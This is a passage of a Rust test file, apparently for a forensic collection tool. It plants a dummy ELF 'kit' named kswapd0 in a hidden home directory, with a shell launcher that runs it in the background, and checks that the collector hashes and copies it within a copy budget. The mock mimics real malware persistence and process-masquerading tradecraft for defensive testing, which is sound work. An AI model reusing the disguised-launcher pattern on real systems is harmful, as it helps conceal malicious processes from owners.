        .manifest
        .artifacts
        .iter()
        .find(|a| a.name == "package-index")
        .unwrap();
    assert!(index.errors.is_empty(), "{index:?}");
    assert!(index.items >= 10, "{index:?}");
}

/// Issue 16: a kit binary in a hidden directory of a busy home — 50,000 ordinary files, toolchain-sized
/// executables that alone exceed the copy budget — is still hashed and copied, within the budget, and
/// what was left out says why (spend by suspicion, not by discovery order).
const KIT: &str = "/home/dev/.local/share/.x/kswapd0";

fn elf(tag: &str, len: usize) -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01\x00".to_vec();
    v.extend(tag.as_bytes());
    v.resize(len, b'k');
    v
}

/// Writes a file with `mode`.
fn put_mode(root: &Path, path: &str, bytes: &[u8], mode: u32) {
    let p = put(root, path, bytes);
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// 50,000 ordinary files: a project tree, a package cache, editor state, shell dotfiles.
fn busy_home(root: &Path) {
    let mut n = 0;
    for (base, count) in [
        ("/home/dev/project/src", 20_000),
        ("/home/dev/.cache/pip/http", 15_000),
        ("/home/dev/.npm/_cacache/content", 10_000),
        ("/home/dev/.local/share/nvim/undo", 4_990),
    ] {
        for i in 0..count {
            let dir = root
                .join(base.trim_start_matches('/'))
                .join(format!("d{}", i % 64));
            if i < 64 {
                std::fs::create_dir_all(&dir).unwrap();
            }
            std::fs::write(dir.join(format!("f{i}.txt")), format!("ordinary {i}\n")).unwrap();
            n += 1;
        }
    }
    for name in [".bashrc", ".profile", ".gitconfig", ".viminfo", ".lesshst"] {
        put_mode(root, &format!("/home/dev/{name}"), b"# ordinary\n", 0o644);
        n += 1;
    }
    for i in 0..5 {
        put_mode(
            root,
            &format!("/home/dev/project/notes{i}.md"),
            b"notes\n",
            0o644,
        );
        n += 1;
    }
    assert_eq!(n, 50_000);
}

#[test]
fn a_kit_in_a_hidden_directory_of_a_busy_home_is_hashed_and_copied_within_the_budget() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    put_mode(
        &root,
        "/etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n",
        0o644,
    );
    busy_home(&root);
    // Toolchain-sized executables in hidden directories, 160 MiB in all: more than the default 64 MiB
    // copy budget, met before the kit in name order.
    for i in 0..4 {
        put_mode(
            &root,
            &format!("/home/dev/.a-toolchain/bin/tool{i}"),
            &elf("tool", 8 << 20),
            0o755,
        );
        put_mode(
            &root,
            &format!("/home/dev/.a-toolchain/lib/x/y/z/big{i}"),
            &elf("big", 32 << 20),
            0o755,
        );
    }
    let kit = elf("kit", 2 << 20);
    put_mode(&root, KIT, &kit, 0o755);
    put_mode(
        &root,
        "/home/dev/.local/share/.x/run",
        b"#!/bin/sh\ncd \"$(dirname \"$0\")\" && ./kswapd0 &\n",
        0o755,
    );

    let Collected { bundle, files } = collect(&root, dir.path(), &[]);
    let rec = files
        .iter()
        .find(|f| f.path.as_bytes() == KIT.as_bytes())
        .expect("the kit is listed");
    let want = hex::encode(sha2::Sha256::digest(&kit));
    assert_eq!(rec.sha256.as_deref(), Some(want.as_str()), "{rec:?}");
    let member = rec.member.as_deref().expect("the kit is copied");
    assert_eq!(bundle.member(member), Some(&kit[..]));
    let script = files
        .iter()
        .find(|f| f.path.as_bytes() == b"/home/dev/.local/share/.x/run")
        .unwrap();
    assert!(
        script.member.is_some() && script.sha256.is_some(),
        "{script:?}"
    );

    // Within the budget: copies under the default 64 MiB; the rest hashed or listed with a reason.
    let copied: u64 = files
        .iter()
        .filter(|f| {
            f.member
                .as_deref()
                .is_some_and(|m| m.starts_with("fs/home/"))
        })
        .map(|f| f.size)
        .sum();
    assert!(copied <= 64 << 20, "{copied} bytes copied");
    let deep = files
        .iter()
        .find(|f| f.path.as_bytes() == b"/home/dev/.a-toolchain/lib/x/y/z/big0")
        .unwrap();
    assert!(deep.member.is_none());
    let why = deep.error.as_deref().unwrap_or_default();
    assert!(
        why.starts_with("not copied:") || why.starts_with("not hashed:"),
        "{deep:?}"
    );
    // Every ordinary file is listed: metadata for everything walked.
    let listed = files
        .iter()
        .filter(|f| f.path.as_bytes().starts_with(b"/home/dev/") && f.kind == FileKind::Regular)
        .count();
    assert_eq!(
        listed,
        50_000 + 4 * 2 + 2,
        "regular files listed under /home/dev"
    );
}
